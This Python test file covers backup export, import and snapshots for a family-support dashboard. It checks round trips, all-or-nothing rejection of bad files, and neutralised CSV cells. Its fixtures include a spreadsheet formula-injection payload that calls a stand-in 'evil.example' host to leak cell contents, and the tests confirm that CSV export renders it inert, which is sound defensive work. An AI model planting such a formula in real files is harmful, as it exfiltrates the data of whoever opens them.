"""Export, import and snapshots: round trips, all-or-nothing rejection, inert CSV cells."""

from __future__ import annotations

import csv
import json
import sqlite3
import uuid
from collections.abc import Callable
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest

from dashboard import backup
from dashboard.backup import ImportRejected, SnapshotUnavailable, inert_cell
from dashboard.config import Settings
from dashboard.db import make_engine
from dashboard.demo import load_demo
from dashboard.records import (
    RECORD_TYPES,
    ActivityOccasion,
    BoundaryPlan,
    BoundaryStatusChange,
    CaregiverCheckin,
    CraftResponse,
    DailyCheckin,
    FamilyMember,
    LovedOne,
    ModuleRead,
    SessionQuestion,
    SmallWin,
    SoberActivity,
    TreatmentEvent,
    TreatmentInvitation,
    TreatmentOption,
    WarningSignTick,
)
from dashboard.store import HouseholdStore, NewFamily, Store

TODAY = date(2026, 6, 15)
TABLES = [record_type.table for record_type in RECORD_TYPES]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'

Payload = dict[str, Any]


def add_edge_family(store: Store) -> HouseholdStore:
    """A second family whose records carry awkward values: nulls, unicode, formulas."""
    family = store.create_family(
        NewFamily("Famille Zoë 🌊", "Émile", "+Alex", relationship="sibling", timezone="UTC")
    )
    loved_one = family.loved_ones()[0]
    member = family.family_members()[0]
    family.add(
        DailyCheckin(
            household_id=family.id,
            loved_one_id=loved_one.id,
            day=TODAY,
            observed_use="none",
            mood=5,
            sleep=1,
            craving=None,
            notes=HYPERLINK,
            logged_by=None,
        )
    )
    family.add(
        DailyCheckin(
            household_id=family.id,
            loved_one_id=loved_one.id,
            day=TODAY - timedelta(days=1),
            mood=1,
            sleep=5,
            craving=0,
            notes='line one\nline "two", with commas\r\n\ttabbed?',
            logged_by=member.id,
        )
    )
    family.add(
        TreatmentEvent(
            household_id=family.id,
            loved_one_id=loved_one.id,
            kind="residential",
            title="-Residential stay",
            start_date=TODAY - timedelta(days=30),
            end_date=TODAY - timedelta(days=2),
            notes="@mention",
        )
    )
    family.add(
        SmallWin(
            household_id=family.id,
            loved_one_id=loved_one.id,
            day=TODAY,
            text="Said thank you 💛",
            source="rule",
            rule="streak_7",
        )
    )
    family.add(
        CaregiverCheckin(
            household_id=family.id,
            family_member_id=member.id,
            day=TODAY,
            stress=0,
            sleep=5,
            self_care_done=True,
            self_care_note="Walk",
            notes="n" * 5_000,
        )
    )
    family.add(
        ModuleRead(
            household_id=family.id,
            family_member_id=member.id,
            module_id="k14-relapse",
            day=TODAY,
        )
    )
    family.add(
        WarningSignTick(
            household_id=family.id, loved_one_id=loved_one.id, sign_id="low-mood", day=TODAY
        )
    )
    add_edge_boundaries(family, loved_one, member)
    return family


def add_edge_boundaries(family: HouseholdStore, loved_one: LovedOne, member: FamilyMember) -> None:
    """Boundary and CRAFT records with awkward values: formulas, unicode, nulls, long text."""
    common = {"household_id": family.id}
    plan = family.add(
        BoundaryPlan(
            **common,
            loved_one_id=loved_one.id,
            area="money",
            boundary="=No cash 💶, ever",
            why_it_matters="Ça compte pour moi.\nDeux lignes.",
            if_crossed="+I pay the bill myself",
            plan_date=TODAY - timedelta(days=10),
            review_date=None,
            archived=True,
        )
    )
    family.add(
        BoundaryStatusChange(**common, plan_id=plan.id, day=TODAY, status="tested", note=HYPERLINK)
    )
    family.add(
        CraftResponse(
            **common,
            loved_one_id=loved_one.id,
            day=TODAY,
            saw="cant_tell",
            did="other",
            what_happened="@someone said -5",
            logged_by=member.id,
        )
    )
    option = family.add(TreatmentOption(**common, name="Клиника 🌿", phone="+44 (0)20 7946 0000"))
    # An edit, so the history holds the option as it was.
    option = family.update(option.model_copy(update={"notes": "=Call before 5pm 🌿"}))
    family.add(
        TreatmentInvitation(
            **common,
            loved_one_id=loved_one.id,
            plan_date=TODAY - timedelta(days=3),
            window_signs="remorse,health-worry",
            option_id=option.id,
            words="I'd love us to call together.",
            asked_on=TODAY,
            outcome="no",
        )
    )
    activity = family.add(SoberActivity(**common, loved_one_id=loved_one.id, title="-Pottery"))
    family.add(
        ActivityOccasion(
            **common, activity_id=activity.id, day=TODAY + timedelta(days=400), status="planned"
        )
    )
    family.add(
        SessionQuestion(
            **common,
            loved_one_id=loved_one.id,
            range_start=TODAY - timedelta(days=6),
            range_end=TODAY,
            text="=Is it OK to ask about the bladder tests?",
        )
    )


@pytest.fixture
def filled(store: Store) -> Store:
    """Every table holds rows: the demo family and an awkward second family."""
    load_demo(store, today=TODAY)
    add_edge_family(store)
    assert all(count > 0 for count in store.counts().values())
    return store


# -- round trips ----------------------------------------------------------------------------


def test_export_delete_import_gives_identical_data(
    filled: Store, tmp_path: Path, dump: Callable[[Store], dict]
) -> None:
    before = dump(filled)
    counts = backup.export_json(filled, tmp_path / "backup.json")
    assert counts == {table: len(rows) for table, rows in before.items()}

    filled.delete_all()
    assert set(filled.counts().values()) == {0}

    plan = backup.import_file(filled, tmp_path / "backup.json")
    assert plan.new == counts
    assert plan.total_new == sum(counts.values())
    assert dump(filled) == before


def test_a_backup_carries_which_notes_are_shared_in_reports(filled: Store, tmp_path: Path) -> None:
    backup.export_json(filled, tmp_path / "backup.json")
    payload = json.loads((tmp_path / "backup.json").read_text(encoding="utf-8"))
    shared = [row for row in payload["daily_checkins"] if row["share_in_reports"]]
    assert shared and all(row["notes"] for row in shared)
    assert all("share_in_reports" in row for row in payload["treatment_events"])


def test_a_note_from_an_older_backup_without_the_tick_stays_private(
    filled: Store, tmp_path: Path
) -> None:
    backup.export_json(filled, tmp_path / "backup.json")
    payload = json.loads((tmp_path / "backup.json").read_text(encoding="utf-8"))
    for table in ("daily_checkins", "treatment_events", "craft_responses"):
        for row in payload[table]:
            row.pop("share_in_reports")
    payload["session_questions"] = []
    filled.delete_all()
    (tmp_path / "old.json").write_text(json.dumps(payload), encoding="utf-8")
    backup.import_file(filled, tmp_path / "old.json")
    household = next(h for h in filled.households() if h.is_demo)
    checkins = filled.household(household.id).list(DailyCheckin)
    assert checkins and not any(c.share_in_reports for c in checkins)


def test_importing_the_same_file_twice_adds_nothing(
    filled: Store, tmp_path: Path, dump: Callable[[Store], dict]
) -> None:
    backup.export_json(filled, tmp_path / "backup.json")
    before = dump(filled)
    for _ in range(2):
        plan = backup.import_file(filled, tmp_path / "backup.json")
        assert plan.total_new == 0
        assert plan.in_file == {table: len(rows) for table, rows in before.items()}
    assert dump(filled) == before


def test_import_adds_only_what_is_new(
    store: Store,
    tmp_path: Path,
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    payload = other_family_payload()
    first = {**payload, "daily_checkins": payload["daily_checkins"][:1]}
    backup.import_file(store, write(tmp_path / "first.json", first))
    plan = backup.import_file(store, write(tmp_path / "all.json", payload))
    assert plan.new == {table: 0 for table in TABLES} | {"daily_checkins": 2}
    assert store.counts()["daily_checkins"] == 3


def test_dry_run_writes_nothing(
    store: Store,
    tmp_path: Path,
    dump: Callable[[Store], dict],
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    store.create_family(NewFamily("The Test family", "Sam", "Alex"))
    before = dump(store)
    path = write(tmp_path / "other.json", other_family_payload())
    plan = backup.import_file(store, path, dry_run=True)
    assert plan.new["households"] == 1
    assert plan.new["daily_checkins"] == 3
    assert plan.total_new == 6
    assert "daily_checkins: 3 in file, 3 new" in plan.preview().splitlines()
    assert dump(store) == before


# -- rejected files leave the database as it was ---------------------------------------------


def _set(table: str, index: int, field: str, value: Any) -> Callable[[Payload], None]:
    def change(payload: Payload) -> None:
        payload[table][index][field] = value

    return change


def _duplicate_checkin(payload: Payload) -> None:
    payload["daily_checkins"].append(dict(payload["daily_checkins"][0]))


def _day_clash(payload: Payload) -> None:
    payload["daily_checkins"][1]["day"] = payload["daily_checkins"][0]["day"]


def _set_envelope(key: str, value: Any) -> Callable[[Payload], None]:
    def change(payload: Payload) -> None:
        payload[key] = value

    return change


ENVELOPE_CASES = [
    (
        "wrong format",
        _set_envelope("format", "other-app"),
        'is not a Harbor backup (missing "format"',
    ),
    ("no format", _set_envelope("format", None), 'is not a Harbor backup (missing "format"'),
    (
        "version 2",
        _set_envelope("version", 2),
        "has backup format version 2; this Harbor reads version 1",
    ),
    ("version text", _set_envelope("version", "1"), "has backup format version '1';"),
    ("version missing", _set_envelope("version", None), "has backup format version None;"),
    ("table not a list", _set_envelope("small_wins", {}), '"small_wins" must be a list of records'),
]


@pytest.mark.parametrize(
    ("change", "expected"),
    [case[1:] for case in ENVELOPE_CASES],
    ids=[c[0] for c in ENVELOPE_CASES],
)
def test_wrong_envelopes_are_rejected(
    sqlite_store: Store,
    tmp_path: Path,
    change: Callable[[Payload], None],
    expected: str,
    dump: Callable[[Store], dict],
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    sqlite_store.create_family(NewFamily("The Test family", "Sam", "Alex"))
    before = dump(sqlite_store)
    payload = other_family_payload()
    change(payload)
    with pytest.raises(ImportRejected) as caught:
        backup.import_file(sqlite_store, write(tmp_path / "backup.json", payload))
    message = str(caught.value)
    assert message.startswith("backup.json")
    assert expected in message
    assert dump(sqlite_store) == before


RECORD_CASES: list[tuple[str, Callable[[Payload], None], str, int, str, str]] = [
    (
        "impossible date",
        _set("daily_checkins", 1, "day", "2026-02-30"),
        "daily_checkins",
        1,
        "day",
        "Input should be a valid date",
    ),
    (
        "future check-in",
        _set("daily_checkins", 2, "day", (date.today() + timedelta(days=3)).isoformat()),
        "daily_checkins",
        2,
        "day",
        "cannot be in the future for something that already happened",
    ),
    (
        "over-long note",
        _set("daily_checkins", 1, "notes", "n" * 5_001),
        "daily_checkins",
        1,
        "notes",
        "must be at most 5,000 characters (it has 5,001, and nothing was saved)",
    ),
    (
        "mood out of range",
        _set("daily_checkins", 0, "mood", 6),
        "daily_checkins",
        0,
        "mood",
        "Input should be less than or equal to 5",
    ),
    (
        "unknown field",
        _set("family_members", 0, "password", "x"),
        "family_members",
        0,
        "password",
        "is not a field Harbor knows",
    ),
    (
        "unknown household",
        _set("loved_ones", 0, "household_id", str(uuid.uuid4())),
        "loved_ones",
        0,
        "household_id",
        "no such household in the file or the database",
    ),
    (
        "bad uuid",
        _set("households", 0, "id", "not-a-uuid"),
        "households",
        0,
        "id",
        "Input should be a valid UUID",
    ),
]


@pytest.mark.parametrize(
    ("change", "table", "index", "field", "expected"),
    [case[1:] for case in RECORD_CASES],
    ids=[case[0] for case in RECORD_CASES],
)
def test_bad_records_are_rejected_naming_table_index_and_field(
    store: Store,
    tmp_path: Path,
    change: Callable[[Payload], None],
    table: str,
    index: int,
    field: str,
    expected: str,
    dump: Callable[[Store], dict],
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    store.create_family(NewFamily("The Test family", "Sam", "Alex"))
    before = dump(store)
    payload = other_family_payload()
    change(payload)
    record_id = payload[table][index]["id"]
    with pytest.raises(ImportRejected) as caught:
        backup.import_file(store, write(tmp_path / "backup.json", payload))
    message = str(caught.value)
    assert message.startswith(f"{table}[{index}] (id {record_id}), field '{field}': ")
    assert expected in message
    assert dump(store) == before


def test_a_record_that_is_not_an_object_is_rejected(
    sqlite_store: Store,
    tmp_path: Path,
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    payload = other_family_payload()
    payload["small_wins"] = ["Went for a walk"]
    with pytest.raises(ImportRejected, match=r"^small_wins\[0\]: must be an object with fields$"):
        backup.import_file(sqlite_store, write(tmp_path / "backup.json", payload))
    assert set(sqlite_store.counts().values()) == {0}


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b'{"format": "harbor-backup", "version": 1,', "backup.json is not valid JSON (line 1,"),
        (b"", "backup.json is not valid JSON (line 1, column 1: Expecting value)"),
        (b"[1, 2]", 'backup.json is not a Harbor backup (missing "format": "harbor-backup")'),
        (b"null", 'backup.json is not a Harbor backup (missing "format": "harbor-backup")'),
        (b"\xff\xfe{\x00}\x00", "backup.json is not UTF-8 text (byte 0xff at position 0)"),
    ],
    ids=["truncated", "empty", "list", "null", "utf-16"],
)
def test_undecodable_files_are_rejected(
    sqlite_store: Store, tmp_path: Path, raw: bytes, expected: str, dump: Callable[[Store], dict]
) -> None:
    sqlite_store.create_family(NewFamily("The Test family", "Sam", "Alex"))
    before = dump(sqlite_store)
    path = tmp_path / "backup.json"
    path.write_bytes(raw)
    with pytest.raises(ImportRejected) as caught:
        backup.import_file(sqlite_store, path)
    assert str(caught.value).startswith(expected)
    assert "\n" not in str(caught.value)
    assert dump(sqlite_store) == before


def test_a_latin1_file_is_rejected_with_the_byte_and_position(
    sqlite_store: Store, tmp_path: Path, other_family_payload: Callable[[], Payload]
) -> None:
    payload = other_family_payload()
    payload["loved_ones"][0]["display_name"] = "Zoë"
    text = json.dumps(payload, ensure_ascii=False)
    path = tmp_path / "latin1.json"
    path.write_bytes(text.encode("latin-1"))
    with pytest.raises(ImportRejected) as caught:
        backup.import_file(sqlite_store, path)
    position = text.index("ë")
    assert str(caught.value) == (
        f"latin1.json is not UTF-8 text (byte 0xeb at position {position}); "
        "export it again from Harbor"
    )
    assert set(sqlite_store.counts().values()) == {0}


def test_a_missing_file_is_rejected(sqlite_store: Store, tmp_path: Path) -> None:
    with pytest.raises(ImportRejected, match=r"^cannot read .*nowhere\.json: No such file"):
        backup.import_file(sqlite_store, tmp_path / "nowhere.json")


@pytest.mark.parametrize("clash", [_duplicate_checkin, _day_clash], ids=["same id", "same day"])
def test_a_clash_at_insert_writes_nothing(
    store: Store,
    tmp_path: Path,
    clash: Callable[[Payload], None],
    dump: Callable[[Store], dict],
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    store.create_family(NewFamily("The Test family", "Sam", "Alex"))
    before = dump(store)
    payload = other_family_payload()
    clash(payload)
    path = write(tmp_path / "backup.json", payload)
    with pytest.raises(ImportRejected, match="clashes with records already stored") as caught:
        backup.import_file(store, path)
    assert "nothing was imported" in str(caught.value)
    assert dump(store) == before


def test_the_unchanged_payload_imports(
    store: Store,
    tmp_path: Path,
    dump: Callable[[Store], dict],
    other_family_payload: Callable[[], Payload],
    write: Callable[[Path, Payload], Path],
) -> None:
    """The rejection cases above fail because of their one change, not the base file."""
    payload = other_family_payload()
    plan = backup.import_file(store, write(tmp_path / "backup.json", payload))
    assert plan.total_new == 6
    assert dump(store) == {table: payload[table] for table in TABLES}


# -- the JSON envelope ----------------------------------------------------------------------


def test_json_export_envelope(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "exports" / "backup.json"
    counts = backup.export_json(filled, out)
    raw = out.read_bytes()
    payload = json.loads(raw.decode("utf-8"))
    assert payload["format"] == "harbor-backup"
    assert payload["version"] == 1
    assert payload["exported_at"].endswith("Z")
    assert set(payload) == {"format", "version", "exported_at", *TABLES}
    assert all(isinstance(payload[table], list) for table in TABLES)
    assert counts == {table: len(payload[table]) for table in TABLES}
    assert "Zoë 🌊".encode() in raw
    assert sorted(path.name for path in out.parent.iterdir()) == ["backup.json"]


def test_json_export_of_an_empty_database_has_every_table(store: Store, tmp_path: Path) -> None:
    counts = backup.export_json(store, tmp_path / "empty.json")
    payload = json.loads((tmp_path / "empty.json").read_text(encoding="utf-8"))
    assert counts == dict.fromkeys(TABLES, 0)
    assert all(payload[table] == [] for table in TABLES)


def test_one_family_can_be_exported_alone(filled: Store) -> None:
    edge = next(h for h in filled.households() if not h.is_demo)
    payload = backup.export_payload(filled, edge.id)
    assert [h["id"] for h in payload["households"]] == [str(edge.id)]
    for table in TABLES[1:]:
        assert payload[table], table
        assert {row["household_id"] for row in payload[table]} == {str(edge.id)}


# -- CSV ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        (HYPERLINK, "'" + HYPERLINK),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("plain note", "plain note"),
        ("a = b + c", "a = b + c"),
        ("'quoted", "'quoted"),
        ("", ""),
        (5, 5),
        (-5, -5),
        (None, None),
        (True, True),
    ],
)
def test_inert_cell(value: Any, expected: Any) -> None:
    assert inert_cell(value) == expected


def read_csv(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def test_csv_export_has_one_file_per_table_and_no_live_formulas(
    filled: Store, tmp_path: Path
) -> None:
    out = tmp_path / "csv"
    counts = backup.export_csv(filled, out)
    assert sorted(path.name for path in out.iterdir()) == sorted(f"{t}.csv" for t in TABLES)
    assert counts == filled.counts()

    for record_type in RECORD_TYPES:
        path = out / f"{record_type.table}.csv"
        assert path.read_bytes().startswith("\ufeff".encode())
        header, *rows = read_csv(path)
        assert header == list(record_type.model_fields)
        assert len(rows) == counts[record_type.table]
        live = [cell for row in rows for cell in row if cell.startswith(backup.FORMULA_TRIGGERS)]
        assert live == [], record_type.table

    header, *rows = read_csv(out / "daily_checkins.csv")
    notes = [row[header.index("notes")] for row in rows]
    assert "'" + HYPERLINK in notes
    assert HYPERLINK not in notes
    members = read_csv(out / "family_members.csv")
    assert "'+Alex" in [row[members[0].index("display_name")] for row in members[1:]]


def test_csv_keeps_multiline_notes_and_empty_cravings(filled: Store, tmp_path: Path) -> None:
    backup.export_csv(filled, tmp_path)
    header, *rows = read_csv(tmp_path / "daily_checkins.csv")
    by_note = {row[header.index("notes")]: row for row in rows}
    multiline = 'line one\nline "two", with commas\r\n\ttabbed?'
    assert multiline in by_note
    assert by_note[multiline][header.index("craving")] == "0"
    assert by_note["'" + HYPERLINK][header.index("craving")] == ""


# -- snapshots ------------------------------------------------------------------------------


def test_snapshot_is_a_sound_copy(
    demo: HouseholdStore, tmp_path: Path, dump: Callable[[Store], dict]
) -> None:
    store = demo.store
    add_edge_family(store)
    out = tmp_path / "snapshots" / "harbor-copy.db"
    backup.snapshot(store, out)

    with sqlite3.connect(out) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        copied = {
            table: connection.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
            for table in TABLES
        }
    connection.close()
    assert copied == store.counts()

    copy = Store(make_engine(f"sqlite:///{out}"))
    try:
        assert dump(copy) == dump(store)
    finally:
        copy.engine.dispose()


def test_snapshot_while_a_write_is_open_copies_the_last_commit(
    demo: HouseholdStore, tmp_path: Path
) -> None:
    store = demo.store
    before = store.counts()
    loved_one = demo.loved_ones()[0]
    with store.writing() as connection:
        store.insert_records(
            [
                DailyCheckin(
                    household_id=demo.id,
                    loved_one_id=loved_one.id,
                    day=date(1999, 1, 1),
                    mood=3,
                    sleep=3,
                )
            ],
            connection,
        )
        backup.snapshot(store, tmp_path / "copy.db")
    with sqlite3.connect(tmp_path / "copy.db") as copy:
        assert copy.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        copied = copy.execute("SELECT count(*) FROM daily_checkins").fetchone()[0]
    copy.close()
    assert copied == before["daily_checkins"]


@pytest.mark.postgres
def test_snapshot_on_postgres_points_to_pg_dump(
    postgres_database: str, data_dir: Path, tmp_path: Path
) -> None:
    store = Store.open(Settings(data_dir=data_dir, database_url=postgres_database))
    try:
        with pytest.raises(SnapshotUnavailable, match="pg_dump") as caught:
            backup.snapshot(store, tmp_path / "copy.db")
    finally:
        store.engine.dispose()
    assert "PostgreSQL" in str(caught.value)
    assert not (tmp_path / "copy.db").exists()
